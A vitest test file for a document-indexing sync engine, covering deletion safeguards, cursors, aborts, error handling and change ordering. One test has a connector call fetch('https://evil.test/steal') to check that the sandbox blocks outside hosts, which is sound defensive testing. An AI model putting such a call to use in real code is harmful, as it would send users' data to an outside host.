import { expect, test } from 'vitest';

import type { Change } from '../../src/core/change.ts';
import { AppError } from '../../src/core/errors.ts';
import type { Progress } from '../../src/ingest/progress.ts';
import type { Store } from '../../src/store/store.ts';
import { aSync } from '../support/a-sync.ts';
import { type AnIndex, anIndex } from '../support/an-index.ts';
import { aDocument, anAccount, only } from '../support/builders.ts';

const told = (key: string, given: Partial<ReturnType<typeof aDocument>> = {}): Change<number> => ({
  type: 'document',
  document: aDocument({ key, ...given }),
});
const many = (count: number): Change<number>[] => Array.from({ length: count }, (_, at) => told(`k${at}`));
const LISTING: Change<number> = { type: 'listing' };
const COMPLETE: Change<number> = { type: 'complete' };

const stored = (index: AnIndex, key: string, source = 'wiki') => index.reader().read((reading) => reading.document(source, key));
const documents = async (store: Store): Promise<number> => (await store.status(['wiki']))[0]?.documents ?? 0;

test('a run says how much it read, changed and deleted; the same again changes nothing', async () => {
  const { store } = await anIndex();
  const says = [LISTING, ...many(3), COMPLETE];
  expect(await aSync(store, says)).toEqual({
    status: 'complete',
    counts: { read: 3, changed: 3, deleted: 0, problems: 0 },
    problems: [],
  });
  expect((await aSync(store, says)).counts).toEqual({ read: 3, changed: 0, deleted: 0, problems: 0 });
  expect((await aSync(store, [LISTING, told('k0'), COMPLETE])).counts).toEqual({ read: 1, changed: 0, deleted: 2, problems: 0 });
});

test('a document without an address gets the one of its source, safely spelled', async () => {
  const index = await anIndex();
  const { url: _, ...rest } = aDocument({ key: 'a b/ü?#$&' });
  await aSync(index.store, [{ type: 'document', document: rest }]);
  expect(stored(index, 'a b/ü?#$&')?.url).toBe('castellan:wiki:a%20b/%C3%BC%3F%23%24%26');
});

test('a listing that was never opened completes nothing, and no cursor moves past it', async () => {
  const { store } = await anIndex();
  await aSync(store, many(3));
  const end = await aSync(store, [told('k0'), COMPLETE, { type: 'checkpoint', cursor: 1 }]);
  expect(end).toMatchObject({ status: 'partial', counts: { deleted: 0, problems: 1 } });
  expect(end.problems[0]?.message).toMatch(/never opened/u);
  expect(await documents(store)).toBe(3);
  expect((await store.open('wiki', 'test', 0)).cursor).toBeUndefined();
});

test('a problem without a key forbids every listing to complete, and holds the cursor back', async () => {
  const { store } = await anIndex();
  await aSync(store, [LISTING, ...many(3), COMPLETE, { type: 'checkpoint', cursor: 1 }]);
  const lost: Change<number> = { type: 'problem', error: new Error('page 2 cannot be read') };
  const end = await aSync(store, [LISTING, lost, told('k0'), COMPLETE, { type: 'checkpoint', cursor: 2 }]);
  expect(end).toMatchObject({ status: 'partial', counts: { deleted: 0, problems: 1 } });
  expect(await documents(store)).toBe(3);
  expect((await store.open('wiki', 'test', 0)).cursor).toBe(1);
});

test('a key with a problem counts as seen', async () => {
  const { store } = await anIndex();
  await aSync(store, [LISTING, ...many(3), COMPLETE]);
  const end = await aSync(store, [
    LISTING,
    told('k0'),
    { type: 'problem', key: 'k1', error: new AppError('source_rejected', 'It is locked.') },
    COMPLETE,
    { type: 'checkpoint', cursor: 1 },
  ]);
  expect(end).toMatchObject({ status: 'partial', counts: { deleted: 1 }, problems: [{ key: 'k1', message: 'It is locked.' }] });
  expect((await store.open('wiki', 'test', 0)).cursor).toBe(1);
});

test('a sweep of too much deletes nothing until it is accepted', async () => {
  const { store } = await anIndex();
  await aSync(store, [LISTING, ...many(60), COMPLETE, { type: 'checkpoint', cursor: 1 }]);
  const half = [LISTING, ...many(30), COMPLETE, { type: 'checkpoint', cursor: 2 } as const];
  const refused = await aSync(store, half);
  expect(refused).toMatchObject({ status: 'partial', counts: { deleted: 0 } });
  expect(refused.problems[0]?.message).toMatchInlineSnapshot(
    `"The listing lacks 30 of 60 documents, so nothing was deleted. If they are really gone: castellan sync wiki --accept-deletions"`,
  );
  expect(await documents(store)).toBe(60);
  const accepted = await aSync(store, half, { acceptDeletions: true });
  expect(accepted).toMatchObject({ status: 'complete', counts: { deleted: 30 } });
  expect((await store.open('wiki', 'test', 0)).cursor).toBe(2);
});

test('20 documents may always go, and a fifth of many', async () => {
  const { store } = await anIndex();
  await aSync(store, [LISTING, ...many(20), COMPLETE]);
  expect((await aSync(store, [LISTING, COMPLETE])).counts.deleted).toBe(20);
  await aSync(store, [LISTING, ...many(200), COMPLETE]);
  expect((await aSync(store, [LISTING, ...many(160), COMPLETE])).counts.deleted).toBe(40);
});

test('a source may allow more or less to go at once', async () => {
  const { store } = await anIndex();
  await aSync(store, [LISTING, ...many(100), COMPLETE]);
  const fewer = [LISTING, ...many(79), COMPLETE];
  expect((await aSync(store, fewer, { maxDeleteRatio: 0.2 })).counts.deleted).toBe(0);
  expect((await aSync(store, fewer, { maxDeleteRatio: 0.5 })).counts.deleted).toBe(21);
});

test('what a run does not mention is confirmed only by a run without problems', async () => {
  const index = await anIndex();
  await aSync(index.store, many(2));
  await aSync(
    index.store,
    [{ type: 'unchanged' }, told('k0', { acl: { unknown: '' } }), { type: 'problem', error: new Error('x') }],
    {
      now: () => 1_000,
    },
  );
  expect(stored(index, 'k1')?.permissionsSyncedAt).toBe(0);
  await aSync(index.store, [{ type: 'unchanged' }], { now: () => 2_000 });
  expect(stored(index, 'k1')?.permissionsSyncedAt).toBe(2_000);
});

test('a connector that throws fails the run and loses nothing it had said', async () => {
  const { store } = await anIndex();
  const cause = new AppError('source_unavailable', 'The wiki is down. Try again later.');
  const end = await aSync(store, async function* () {
    yield told('k0');
    throw cause;
  });
  expect(end).toEqual({
    status: 'failed',
    counts: { read: 1, changed: 1, deleted: 0, problems: 1 },
    problems: [{ message: 'The wiki is down. Try again later.' }],
    cause,
  });
  expect(await documents(store)).toBe(1);
});

test('a connector that throws before it has a stream fails the run too', async () => {
  const { store } = await anIndex();
  const end = await aSync(store, () => {
    throw new TypeError('x is not a function');
  });
  expect(end).toMatchObject({ status: 'failed', problems: [{ message: 'The connector failed: x is not a function' }] });
  expect((await aSync(store, [])).status).toBe('complete');
});

test('an abort ends the run as partial, even while the connector hangs, and gives the source free', async () => {
  const { store } = await anIndex();
  const abort = new AbortController();
  const end = await aSync(
    store,
    async function* () {
      yield told('k0');
      yield { type: 'checkpoint', cursor: 1 };
      await new Promise<never>(() => setTimeout(() => abort.abort(), 150)); // nothing ever comes
    },
    { signal: abort.signal },
  );
  expect(end).toMatchObject({ status: 'partial', counts: { read: 1 } });
  expect(end.problems[0]?.message).toMatch(/interrupted; nothing is lost.*castellan sync wiki/u);
  const writer = await store.open('wiki', 'test', 0);
  expect(writer.cursor).toBe(1); // committed while the connector was silent
});

test('an abort before the first change says so', async () => {
  const { store } = await anIndex();
  expect(await aSync(store, many(1), { signal: AbortSignal.abort() })).toMatchObject({ status: 'partial', counts: { read: 0 } });
});

test('what waits for a silent connector is committed all the same', async () => {
  const index = await anIndex();
  let seen: unknown;
  await aSync(index.store, async function* () {
    yield told('k0');
    for (let round = 0; round < 100 && !seen; round++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      seen = stored(index, 'k0');
    }
  });
  expect(seen).toBeDefined();
});

test('a slow body keeps no permission waiting', async () => {
  const index = await anIndex();
  await aSync(index.store, many(1));
  let before: unknown;
  const read = async (): Promise<Uint8Array> => {
    for (let round = 0; round < 100 && before === undefined; round++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      const acl = stored(index, 'k0')?.acl.value;
      if (acl && 'unknown' in acl) before = acl;
    }
    return Buffer.from('slow');
  };
  await aSync(index.store, [
    { type: 'acl', key: 'k0', acl: { unknown: 'closed' } },
    told('slow', { body: { kind: 'bytes', mediaType: 'text/plain', read } }),
  ]);
  expect(before).toEqual({ unknown: 'closed' });
});

test('a connector that never waits cannot keep an abort from being heard', async () => {
  const { store } = await anIndex();
  const abort = new AbortController();
  setTimeout(() => abort.abort(), 20);
  const end = await aSync(
    store,
    async function* () {
      for (;;) yield { type: 'problem', error: new Error('x') };
    },
    { signal: abort.signal },
  );
  expect(end.status).toBe('partial');
});

test('a second run of one source is refused while the first holds it', async () => {
  const { store } = await anIndex();
  await aSync(store, async function* () {
    await expect(aSync(store, [])).rejects.toMatchObject({ code: 'conflict' });
    yield told('k0');
  });
  expect((await aSync(store, [])).status).toBe('complete');
});

test('the connector gets the last cursor, and none where it cannot read it any more', async () => {
  const { store } = await anIndex();
  const cursors: unknown[] = [];
  const run = (): Promise<unknown> =>
    aSync(store, async function* ({ cursor }) {
      cursors.push(cursor);
      yield { type: 'checkpoint', cursor: 7 };
    });
  await run();
  await run();
  const writer = await store.open('wiki', 'test', 0);
  await writer.write([{ type: 'checkpoint', cursor: { old: 'shape' } }]);
  await writer.finish({ status: 'complete', counts: { read: 0, changed: 0, deleted: 0, problems: 0 }, problems: [] }, 0);
  await run();
  expect(cursors).toEqual([undefined, 7, undefined]);
});

test('a source is to be listed until it was listed whole, and again after a refused sweep', async () => {
  const { store } = await anIndex();
  const due: boolean[] = [];
  const run = (changes: readonly Change<number>[]): Promise<unknown> =>
    aSync(store, async function* (given) {
      due.push(given.due.listing);
      yield* changes;
    });
  await run([LISTING, ...many(60)]);
  await run([LISTING, ...many(60), COMPLETE]);
  await run([LISTING, COMPLETE]);
  await run([]);
  expect(due).toEqual([true, true, false, true]);
});

test('a connector reaches no host', async () => {
  const { store } = await anIndex();
  const end = await aSync(store, async function* ({ fetch }) {
    await fetch('https://evil.test/steal');
    yield told('k0');
  });
  expect(end).toMatchObject({ status: 'failed', problems: [{ message: expect.stringMatching(/asked for evil\.test/u) }] });
});

test('progress is told while it runs and at the end', async () => {
  const { store } = await anIndex();
  const seen: Progress[] = [];
  let clock = 0;
  await aSync(store, many(1_050), { onProgress: (progress) => seen.push(progress), now: () => (clock += 200) });
  expect(seen.length).toBeGreaterThan(2);
  expect(seen.at(-1)).toMatchObject({ source: 'wiki', phase: 'read', read: 1_050, changed: 1_050, problems: 0 });
});

test('the order of changes holds: what is deleted and told again is there, what is told and deleted is not', async () => {
  const index = await anIndex();
  const folder: Change<number> = { type: 'container', key: 'f', title: 'F', acl: only('everyone') };
  await aSync(index.store, [
    { type: 'account', account: anAccount() },
    folder,
    told('a', { parent: 'f' }),
    { type: 'delete', key: 'f' },
    folder,
    told('a', { parent: 'f', title: 'Again' }),
    told('a', { title: 'And again' }),
    told('b'),
    { type: 'delete', key: 'b' },
    { type: 'container', key: 'c', title: 'C', acl: only('everyone') },
    told('c'),
  ]);
  expect(stored(index, 'a')?.title).toBe('And again');
  expect(stored(index, 'b')).toBeUndefined();
  expect(stored(index, 'c')?.title).toBe('Plan');
});
